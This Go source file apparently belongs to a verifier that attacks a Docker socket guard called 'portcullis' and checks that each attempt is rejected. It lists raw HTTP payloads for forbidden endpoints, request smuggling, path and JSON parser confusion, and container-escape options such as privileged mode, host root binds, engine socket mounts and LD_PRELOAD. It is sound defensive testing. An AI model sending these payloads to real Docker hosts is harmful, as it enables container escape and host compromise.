package bypass

import (
	"context"
	"fmt"
	"strings"

	"portcullis/verifier/approval"
	"portcullis/verifier/guard"
	"portcullis/verifier/stamp"
)

const (
	jsonType = "application/json"
	tarType  = "application/x-tar"
)

// request writes one request. {container} is a container of the guard, {image} an
// approved image.
func request(line, headers, body string) string {
	return line + "\r\nHost: docker\r\n" + headers + "\r\n" + body
}

// post is a request with a body of a type.
func post(method, uri, contentType, body string) string {
	return request(method+" "+uri+" HTTP/1.1", fmt.Sprintf("Content-Type: %s\r\nContent-Length: %d\r\n", contentType, len(body)), body)
}

// raw is an attack of one request on the guard's socket.
func raw(name, reason, text string) Attack {
	return Attack{name, reason, func(_ context.Context, r *Rig) error { return r.knock(r.socket, text) }}
}

// endpoint is an attack on an endpoint that the guard does not have.
func endpoint(name, method, uri string) Attack {
	return raw(name, guard.ReasonEndpoint, post(method, "/v1.41/"+uri, jsonType, "{}"))
}

// endpoints of the engine that bring in, change, start or take out something.
var endpoints = []Attack{
	raw("build", guard.ReasonEndpoint, post("POST", "/v1.41/build?t=evil", tarType, "FROM scratch")),
	raw("build-without-version", guard.ReasonEndpoint, post("POST", "/build", tarType, "FROM scratch")),
	endpoint("commit", "POST", "commit?container={container}"),
	raw("import", guard.ReasonEndpoint, post("POST", "/v1.41/images/create?fromSrc=-", tarType, "x")),
	endpoint("import-from-url", "POST", "images/create?fromSrc=http://192.0.2.1/x.tar"),
	endpoint("pull", "POST", "images/create?fromImage=evil&tag=latest"),
	endpoint("tag-over-the-approved", "POST", "images/{image}/tag?repo=evil&tag=1"),
	endpoint("push", "POST", "images/{image}/push"),
	endpoint("save", "GET", "images/{image}/get"),
	endpoint("remove-image", "DELETE", "images/{image}"),
	endpoint("plugin-pull", "POST", "plugins/pull?remote=evil"),
	endpoint("plugin-create", "POST", "plugins/create?name=evil"),
	endpoint("plugin-upgrade", "POST", "plugins/portcullis/upgrade?remote=evil"),
	endpoint("plugin-set", "POST", "plugins/portcullis/set"),
	endpoint("plugin-remove-the-lock", "DELETE", "plugins/portcullis?force=1"),
	endpoint("plugin-privileges", "GET", "plugins/privileges?remote=evil"),
	endpoint("plugin-enable", "POST", "plugins/evil/enable"),
	endpoint("plugin-disable-the-lock", "POST", "plugins/portcullis/disable"),
	endpoint("exec-create", "POST", "containers/{container}/exec"),
	endpoint("exec-start", "POST", "exec/0123456789ab/start"),
	raw("cp-into-container", guard.ReasonEndpoint, post("PUT", "/v1.41/containers/{container}/archive?path=/", tarType, "x")),
	endpoint("cp-out-of-container", "GET", "containers/{container}/archive?path=/"),
	endpoint("export", "GET", "containers/{container}/export"),
	endpoint("update", "POST", "containers/{container}/update"),
	endpoint("rename", "POST", "containers/{container}/rename?name=good"),
	endpoint("restart", "POST", "containers/{container}/restart"),
	endpoint("checkpoint", "POST", "containers/{container}/checkpoints"),
	endpoint("attach-by-websocket", "GET", "containers/{container}/attach/ws?stdin=1"),
	endpoint("prune", "POST", "containers/prune"),
	endpoint("volume-create", "POST", "volumes/create"),
	endpoint("network-create", "POST", "networks/create"),
	endpoint("network-connect", "POST", "networks/host/connect"),
	endpoint("swarm-init", "POST", "swarm/init"),
	endpoint("service-create", "POST", "services/create"),
	endpoint("secret-create", "POST", "secrets/create"),
	endpoint("build-cache", "POST", "build/prune"),
	endpoint("login", "POST", "auth"),
	raw("session-hijack", guard.ReasonEndpoint, request("POST /session HTTP/1.1", "Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n", "")),
	raw("grpc-hijack", guard.ReasonEndpoint, request("POST /grpc HTTP/1.1", "Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n", "")),
}

// spellings of requests that a guard and an engine could read differently.
var spellings = []Attack{
	raw("path-with-two-slashes", guard.ReasonPath, post("POST", "//v1.41/images/load", tarType, "x")),
	raw("path-up", guard.ReasonPath, post("POST", "/v1.41/containers/../build", tarType, "x")),
	raw("path-up-through-nothing", guard.ReasonPath, post("POST", "//v1.50/../images/load", tarType, "x")),
	raw("path-escaped", guard.ReasonPath, post("POST", "/v1.41/%62uild", tarType, "x")),
	raw("path-slash-escaped", guard.ReasonPath, request("GET /v1.41/containers%2fjson HTTP/1.1", "", "")),
	raw("path-with-a-tail", guard.ReasonPath, post("POST", "/v1.41/containers/create/", jsonType, "{}")),
	raw("path-with-parameters-inside", guard.ReasonPath, post("POST", "/v1.41/containers/create;x=1", jsonType, "{}")),
	raw("path-of-another-host", guard.ReasonPath, post("POST", "http://docker/v1.41/build", tarType, "x")),
	raw("version-older", guard.ReasonVersion, post("POST", "/v1.24/containers/create", jsonType, "{}")),
	raw("version-newer", guard.ReasonVersion, post("POST", "/v1.99/containers/create", jsonType, "{}")),
	raw("version-twice", guard.ReasonEndpoint, post("POST", "/v1.41/v1.41/containers/create", jsonType, "{}")),
	raw("method-in-small-letters", guard.ReasonEndpoint, request("post /v1.41/containers/create HTTP/1.1", "Content-Length: 0\r\n", "")),
	raw("method-overridden", guard.ReasonHeader, request("GET /v1.41/containers/{container}/json HTTP/1.1", "X-HTTP-Method-Override: DELETE\r\n", "")),
	raw("http-1.0", guard.ReasonHTTPVersion, request("GET /v1.41/containers/json HTTP/1.0", "", "")),
	raw("http-2-by-knowledge", guard.ReasonHTTPVersion, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
	raw("http-2-by-upgrade", guard.ReasonUpgrade, request("GET /v1.41/containers/json HTTP/1.1", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", "")),
	raw("header-without-colon", guard.ReasonMalformed, request("GET /v1.41/containers/json HTTP/1.1", "nonsense\r\n", "")),
	raw("two-lengths", guard.ReasonMalformed, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n", "{}")),
	raw("length-and-chunks", guard.ReasonLength, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n", "2\r\n{}\r\n0\r\n\r\n")),
	raw("unknown-transfer-coding", guard.ReasonMalformed, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nTransfer-Encoding: chunked, gzip\r\n", "")),
	raw("huge-header", guard.ReasonMalformed, request("GET /v1.41/containers/json HTTP/1.1", "X: "+strings.Repeat("a", 64<<10)+"\r\n", "")),
	{"pipelined-behind-a-good-one", guard.ReasonEndpoint, func(_ context.Context, r *Rig) error {
		first, second, err := r.two(r.socket, request("GET /_ping HTTP/1.1", "", "")+post("POST", "/v1.41/build", tarType, "x"))
		if err == nil && (first != 200 || second < 400) {
			err = fmt.Errorf("answered %d and %d", first, second)
		}
		return err
	}},
	raw("parameter-twice", guard.ReasonQuery, post("POST", "/v1.41/containers/create?name=a&name=b", jsonType, "{}")),
	raw("parameter-unknown", guard.ReasonQuery, post("POST", "/v1.41/containers/create?platform=linux/386", jsonType, "{}")),
	raw("start-from-a-checkpoint", guard.ReasonQuery, request("POST /v1.41/containers/{container}/start?checkpoint=x HTTP/1.1", "Content-Length: 0\r\n", "")),
	raw("attach-with-input", guard.ReasonQuery, request("POST /v1.41/containers/{container}/attach?stdin=1&stream=1 HTTP/1.1", "Connection: Upgrade\r\nUpgrade: tcp\r\nContent-Length: 0\r\n", "")),
	raw("attach-upgraded-to-http-2", guard.ReasonUpgrade, request("POST /v1.41/containers/{container}/attach?stdout=1 HTTP/1.1", "Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n", "")),
	raw("forged-stamp", guard.ReasonHeader, request("POST /v1.41/containers/{container}/start HTTP/1.1", stamp.Header+": 00.none.00.00\r\nContent-Length: 0\r\n", "")),
	raw("container-of-nobody", guard.ReasonEngine, request("POST /v1.41/containers/nobody/start HTTP/1.1", "Content-Length: 0\r\n", "")),
}

// create is a body that would be in order but for more.
func create(more string) string { return `{"Image":"{image}"` + more + `}` }

// bodies that a plugin does not see, or that two readers read differently.
var bodies = []Attack{
	raw("body-of-0-bytes", guard.ReasonLength, post("POST", "/v1.41/containers/create", jsonType, "")),
	raw("body-of-1-mib-and-1", guard.ReasonLength, post("POST", "/v1.41/containers/create", jsonType, create(`,"Cmd":["`+strings.Repeat("a", 1<<20)+`"]`))),
	raw("body-of-4-mib-and-1", guard.ReasonLength, post("POST", "/v1.41/containers/create", jsonType, create(`,"Cmd":["`+strings.Repeat("a", 4<<20)+`"]`))),
	raw("body-in-chunks", guard.ReasonLength, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n", "2\r\n{}\r\n0\r\n\r\n")),
	raw("body-shorter-than-told", guard.ReasonLength, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nContent-Length: 100\r\n", "{}"+cut)),
	raw("body-where-none-is", guard.ReasonLength, post("POST", "/v1.41/containers/{container}/start", jsonType, `{"Binds":["/:/host"]}`)),
	raw("body-type-with-charset", guard.ReasonType, post("POST", "/v1.41/containers/create", "application/json; charset=utf-8", create(""))),
	raw("body-type-of-text", guard.ReasonType, post("POST", "/v1.41/containers/create", "text/plain", create(""))),
	raw("body-type-in-capitals", guard.ReasonType, post("POST", "/v1.41/containers/create", "Application/JSON", create(""))),
	raw("load-called-json", guard.ReasonType, post("POST", "/v1.41/images/load", jsonType, "{}")),
	raw("body-packed", guard.ReasonHeader, request("POST /v1.41/containers/create HTTP/1.1", "Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n", "{}")),
	raw("image-twice", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create(`,"Image":"evil"`))),
	raw("image-in-two-cases", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create(`,"image":"evil"`))),
	raw("image-escaped-twin", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create(`,"\u0049mage":"evil"`))),
	raw("two-values", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create("")+`{"Image":"evil"}`)),
	raw("not-utf-8", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create(",\"User\":\"\xff\""))),
	raw("nested-without-end", guard.ReasonJSON, post("POST", "/v1.41/containers/create", jsonType, create(`,"Labels":`+strings.Repeat(`{"a":`, 1000)+"1"+strings.Repeat("}", 1000)))),
	raw("unknown-field", guard.ReasonField, post("POST", "/v1.41/containers/create", jsonType, create(`,"Rootfs":"/"`))),
}

// wish is an attack by a field of a create.
func wish(name, reason, more string) Attack {
	return raw("create-"+name, reason, post("POST", "/v1.41/containers/create", jsonType, create(more)))
}

func host(name, reason, field string) Attack { return wish(name, reason, `,"HostConfig":{`+field+`}`) }

// wishes of a caller for more than was approved.
var wishes = []Attack{
	host("privileged", guard.ReasonField, `"Privileged":true`),
	host("bind-of-the-root", guard.ReasonField, `"Binds":["/:/host"]`),
	host("mount-of-an-image", guard.ReasonField, `"Mounts":[{"Type":"image","Source":"evil","Target":"/evil"}]`),
	host("mount-of-the-engine-socket", guard.ReasonField, `"Mounts":[{"Type":"bind","Source":"/run/portcullis","Target":"/run"}]`),
	host("volumes-from", guard.ReasonField, `"VolumesFrom":["{container}"]`),
	host("mount-of-a-volume", guard.ReasonField, `"Mounts":[{"Type":"volume","Source":"evil","Target":"/evil"}]`),
	host("mount-of-a-pipe", guard.ReasonField, `"Mounts":[{"Type":"npipe","Source":"evil","Target":"/evil"}]`),
	host("mount-of-a-cluster-volume", guard.ReasonField, `"Mounts":[{"Type":"cluster","Source":"evil","Target":"/evil"}]`),
	host("links", guard.ReasonField, `"Links":["{container}:evil"]`),
	host("storage-options", guard.ReasonField, `"StorageOpt":{"size":"1T"}`),
	host("device-requests", guard.ReasonField, `"DeviceRequests":[{"Driver":"nvidia","Count":-1}]`),
	host("volume-driver", guard.ReasonField, `"VolumeDriver":"evil"`),
	host("devices", guard.ReasonField, `"Devices":[{"PathOnHost":"/dev/mem","PathInContainer":"/dev/mem","CgroupPermissions":"rwm"}]`),
	host("device-rules", guard.ReasonField, `"DeviceCgroupRules":["a *:* rwm"]`),
	host("host-processes", guard.ReasonField, `"PidMode":"host"`),
	host("processes-of-another", guard.ReasonField, `"PidMode":"container:{container}"`),
	host("host-ipc", guard.ReasonField, `"IpcMode":"host"`),
	host("host-users", guard.ReasonField, `"UsernsMode":"host"`),
	host("host-control-groups", guard.ReasonField, `"CgroupnsMode":"host"`),
	host("seccomp-unconfined", guard.ReasonField, `"SecurityOpt":["seccomp=unconfined"]`),
	host("apparmor-unconfined", guard.ReasonField, `"SecurityOpt":["apparmor=unconfined"]`),
	host("unmasked-proc", guard.ReasonField, `"MaskedPaths":[],"ReadonlyPaths":[]`),
	host("runtime", guard.ReasonField, `"Runtime":"evil"`),
	host("control-group", guard.ReasonField, `"CgroupParent":"/"`),
	host("kernel-settings", guard.ReasonField, `"Sysctls":{"kernel.shm_rmid_forced":"1"}`),
	host("restart-policy", guard.ReasonField, `"RestartPolicy":{"Name":"always"}`),
	host("log-to-elsewhere", guard.ReasonField, `"LogConfig":{"Type":"syslog","Config":{"syslog-address":"udp://192.0.2.1"}}`),
	host("published-port", guard.ReasonField, `"PortBindings":{"80/tcp":[{"HostPort":"80"}]}`),
	raw("create-image-that-climbs-to-a-registry", guard.ReasonField, post("POST", "/v1.41/containers/create", jsonType, `{"Image":"evil/../../distribution/192.0.2.1/evil"}`)),
	wish("health-check", guard.ReasonField, `,"Healthcheck":{"Test":["CMD","/probe","wait"]}`),
	wish("label-of-the-guard", guard.ReasonField, `,"Labels":{"portcullis.approval":"sha256:0"}`),
	wish("standard-input", guard.ReasonField, `,"OpenStdin":true`),
	host("capability", approval.ReasonProfile, `"CapAdd":["SYS_ADMIN"]`),
	host("host-network", approval.ReasonProfile, `"NetworkMode":"host"`),
	host("network-of-another", approval.ReasonProfile, `"NetworkMode":"container:{container}"`),
	host("memory", approval.ReasonProfile, `"Memory":1099511627776`),
	host("processes", approval.ReasonProfile, `"PidsLimit":100000`),
	wish("root-user", approval.ReasonProfile, `,"User":"0:0"`),
	wish("preloaded-library", approval.ReasonProfile, `,"Env":["LD_PRELOAD=/evil.so"]`),
	wish("other-purpose", approval.ReasonPurpose, `,"Labels":{"portcullis.purpose":"service/pxed"}`),
}
